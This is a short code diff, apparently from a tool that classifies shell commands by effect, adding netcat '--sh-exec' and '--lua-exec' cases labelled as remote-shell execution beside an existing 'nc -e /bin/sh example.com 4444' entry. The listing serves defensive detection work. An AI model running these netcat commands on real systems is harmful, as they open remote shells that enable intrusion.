@@ -39,6 +39,8 @@ export default [
       ['nc -e /bin/sh example.com 4444', 'execute:remote-shell /bin/sh', 'connect:login example.com'],
       ['nc -l 8080', 'connect:listen 8080'],
       ['nc --zap', 'unknown: option `--zap` of `nc` is not described'],
+      ['nc --sh-exec a', 'execute:remote-shell a', 'connect:login any host'],
+      ['nc --lua-exec a', 'execute:remote-shell a', 'connect:login any host'],
     ],
   }),
   defineCommand({
